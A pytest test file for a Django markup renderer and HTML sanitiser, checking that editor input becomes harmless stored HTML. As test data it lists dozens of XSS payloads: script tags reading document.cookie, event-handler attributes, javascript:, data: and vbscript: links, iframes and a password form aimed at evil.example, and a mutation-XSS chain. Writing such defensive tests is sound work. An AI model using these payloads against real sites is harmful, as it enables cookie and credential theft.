"""Whatever an editor types, the stored HTML carries no script, handler, style or unsafe URL."""

import pytest

import markup.render
from markup.render import render
from markup.sanitize import allow_list, sanitize
from studies.models import Document
from tests.htmlparse import parse

pytestmark = pytest.mark.django_db

SAFE_URL_PREFIXES = ("/", "?", "#", "http://", "https://", "mailto:")
DANGEROUS_TAGS = {
    "script", "iframe", "img", "svg", "style", "object", "embed", "form", "input", "link",
    "meta", "base", "math", "frame", "frameset", "video", "audio", "source",
}  # fmt: skip


def assert_harmless(html):
    """Only allow-listed tags, attributes and classes; no handler, style or unsafe URL."""
    assert "<script" not in html.lower()
    TAGS, ATTRIBUTES, CLASSES = allow_list()
    for node in parse(html).iter():
        assert node.tag in TAGS, f"<{node.tag}> survived in {html!r}"
        assert node.tag not in DANGEROUS_TAGS
        for name, value in node.attrs.items():
            assert not name.startswith("on"), f"{name}= survived in {html!r}"
            assert name not in ("style", "src", "srcdoc", "formaction", "action", "target")
            assert name in ATTRIBUTES.get(node.tag, ()), f"{node.tag} {name}= survived"
            if name == "href":
                assert value.startswith(SAFE_URL_PREFIXES), f"href={value!r} survived"
            if name == "class":
                assert set(value.split()) <= CLASSES, f"class={value!r} survived"


# Hostile texts typed into the markup: stored HTML after save().

HOSTILE_MARKUP = {
    "script": "Hello <script>alert(document.cookie)</script> world",
    "script-block": "<script>\nalert(1)\n</script>",
    "img-onerror": 'Look <img src=x onerror="alert(1)"> here',
    "a-onclick": '<a href="https://example.org" onclick="alert(1)">click</a>',
    "event-handler-block": '<div onmouseover="alert(1)">hover</div>',
    "event-handler-on-p": '<p onclick="alert(1)" class="passage">text</p>',
    "svg-onload": "<svg onload=alert(1)></svg>",
    "body-onload": "<body onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "javascript-link": "[click](javascript:alert(1))",
    "javascript-mixed-case": "[click](JaVaScRiPt:alert(1))",
    "javascript-spaced": "[click]( javascript:alert(1))",
    "javascript-entity": "[click](java&#115;cript:alert(1))",
    "javascript-reference-link": "[click][evil]\n\n[evil]: javascript:alert(1)",
    "javascript-with-note": '[click](javascript:alert(1) "a note")',
    "javascript-autolink": "<javascript:alert(1)>",
    "javascript-raw-html": '<a href="javascript:alert(1)">click</a>',
    "data-link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data-autolink": "<data:text/html,<script>alert(1)</script>>",
    "data-raw-html": '<a href="data:text/html,alert(1)">click</a>',
    "vbscript-link": "[click](vbscript:msgbox(1))",
    "vbscript-raw-html": '<a href="vbscript:msgbox(1)">click</a>',
    "image-javascript": "![x](javascript:alert(1))",
    "style-attribute": '<span style="position:fixed;top:0">cover</span>',
    "style-element": "<style>body{display:none}</style>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object-embed": '<object data="x.swf"></object><embed src="x.swf">',
    "form": '<form action="https://evil.example"><input name="password"></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "note-with-html": "[phrase]^[<img src=x onerror=alert(1)>]",
    "title-with-html": '[x](https://example.org "<script>alert(1)</script>")',
    "supplement-summary-html": "/// supplement | <script>alert(1)</script>\nbody\n///",
    "block-attrs": (
        "/// pullquote\n"
        "    attrs: {class: 'evil admin-only', onclick: 'alert(1)', style: 'color:red'}\n"
        "A quote.\n///"
    ),
    "link-injecting-attribute": '[x](https://example.org/" onmouseover="alert(1))',
}


@pytest.mark.parametrize("source", HOSTILE_MARKUP.values(), ids=HOSTILE_MARKUP.keys())
def test_hostile_markup_is_harmless_in_the_stored_html(source):
    document = Document(
        slug="hostile", kind="study", title="Hostile", commentary=source, abstract=source
    )
    document.save()
    stored = Document.objects.get(pk=document.pk)
    for html in (stored.commentary_html, stored.abstract_html):
        assert_harmless(html)
    assert stored.commentary == source  # the editor's text itself is kept as typed


def test_typed_html_is_shown_as_text_not_interpreted():
    html = render("Use <b onclick='x'>bold</b> & <script>alert(1)</script>", "doc:x").html
    assert html == (
        "<p>Use &lt;b onclick=’x’&gt;bold&lt;/b&gt; &amp; &lt;script&gt;alert(1)&lt;/script&gt;</p>"
    )
    assert parse(html).find_all("b") == []


@pytest.mark.parametrize(
    "source",
    [
        "[click](javascript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "[click](vbscript:msgbox(1))",
    ],
)
def test_unsafe_link_schemes_are_also_reported_to_the_editor(source):
    rendered = render(source, "doc:x")
    assert rendered.errors and "is not allowed" in rendered.errors[0]
    assert rendered.html == "<p><a>click</a></p>"


def test_classes_outside_the_allow_list_are_dropped_from_blocks():
    html = render(HOSTILE_MARKUP["block-attrs"], "doc:x").html
    aside = parse(html).find("aside")
    assert aside["class"] == "pull-quote"
    assert set(aside.attrs) == {"class"}


# The sanitiser on its own, given hostile HTML directly.

HOSTILE_HTML = [
    ("<script>alert(1)</script>kept", "kept"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>kept", "kept"),
    ('<img src="x" onerror="alert(1)">', ""),
    (
        '<a href="https://example.org/" onclick="alert(1)">x</a>',
        '<a href="https://example.org/">x</a>',
    ),
    ('<a href="javascript:alert(1)" class="ext evil">x</a>', '<a class="ext">x</a>'),
    ('<a href="JAVASCRIPT:alert(1)">x</a>', "<a>x</a>"),
    ('<a href=" javascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "<a>x</a>"),
    ('<a href="vbscript:msgbox(1)">x</a>', "<a>x</a>"),
    (
        '<p style="color:red" onmouseover="alert(1)" class="passage" id="ok">t</p>',
        '<p class="passage" id="ok">t</p>',
    ),
    ('<iframe src="https://evil.example/"></iframe>after', "after"),
    ("<svg onload=alert(1)><circle></circle></svg>", ""),
    (
        '<details open ontoggle="alert(1)"><summary>s</summary>d</details>',
        "<details><summary>s</summary>d</details>",
    ),
    # Note phrases are spans now (role="button" added after the sanitiser): no <button> is kept.
    ('<button type="submit" formaction="javascript:alert(1)">b</button>', "b"),
    ('<span role="button" tabindex="0" class="note">n</span>', '<span class="note">n</span>'),
    ('<a href="/documents/x/" target="_blank">ok</a>', '<a href="/documents/x/">ok</a>'),
    ('<div class="supplement-body admin evil">x</div>', '<div class="supplement-body">x</div>'),
    ('<span class="evil">x</span>', "<span>x</span>"),
    ('<ol start="javascript:1"><li>x</li></ol>', "<ol><li>x</li></ol>"),
    ('<a aria-describedby="javascript:x">n</a>', "<a>n</a>"),
    ('<p id="Bad Id">x</p>', "<p>x</p>"),
    ("<style>p{display:none}</style>t", "t"),
    ('<object data="x"></object><embed src="y">t', "t"),
    ('<form action="/x"><input name="a"></form>', ""),
    ('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">t', "t"),
    ("<!-- <script>alert(1)</script> --><p>x</p>", "<p>x</p>"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", ""),
    (
        '<a href="#passage" class="ref-passage">a</a>',
        '<a href="#passage" class="ref-passage">a</a>',
    ),
]


@pytest.mark.parametrize("hostile, expected", HOSTILE_HTML)
def test_sanitize_strips_hostile_html(hostile, expected):
    cleaned = sanitize(hostile)
    assert cleaned == expected
    assert_harmless(cleaned)


def test_the_allow_list_keeps_everything_the_markup_emits(monkeypatch):
    """Rendering without the sanitiser and with it gives the same tree: nothing the markup
    writes is lost, so the allow-list is no wider than it needs to be to keep it all."""
    source = (
        "# Heading {#heading-passage}\n\n"
        "A [doc](doc:x) [cell](cell:alcohol/E4#about) [topic](topic:t) [matrix](matrix:drug) "
        '[ext](https://example.org "A note") [here](#heading-passage) and a [phrase]^[its note]. '
        "*em* **strong** <https://example.org> {#a-passage}\n\n"
        "- item {#an-item}\n\n3. third\n4. fourth\n\n"
        "/// supplement | More\nHidden.\n///\n\n/// pullquote\nA quote.\n///\n\n"
        "> A block quote\n\n`code` and ---\n\n***"
    )
    clean = render(source, "cell:alcohol/E4")
    monkeypatch.setattr(markup.render, "sanitize", lambda html: html)
    raw = render(source, "cell:alcohol/E4")
    assert clean.errors == raw.errors == []

    def shape(html):
        return [(node.tag, sorted(node.attrs.items())) for node in parse(html).iter()]

    assert shape(clean.html) == shape(raw.html)
    emitted_tags = {tag for tag, _ in shape(raw.html)}
    assert emitted_tags >= {"h3", "p", "a", "span", "ul", "ol", "li", "details"}
    assert_harmless(clean.html)


def test_a_reference_kind_brings_its_own_class_to_the_allow_list():
    """The sanitiser lists no kind by name: a kind registered later keeps its links' class,
    and loses it once it is gone."""
    from django.db.models import Q

    from markup import registry

    kind = registry.ReferenceKind(
        name="report",
        label="report",
        model="studies.Document",
        url=lambda key: f"/reports/{key}/",
        public_q=Q,
    )
    link = '<p><a class="ref-report" href="/reports/x/">x</a></p>'
    assert 'class="ref-report"' not in sanitize(link)
    with registry.temporarily(kind):
        assert 'class="ref-report"' in sanitize(link)
    assert 'class="ref-report"' not in sanitize(link)
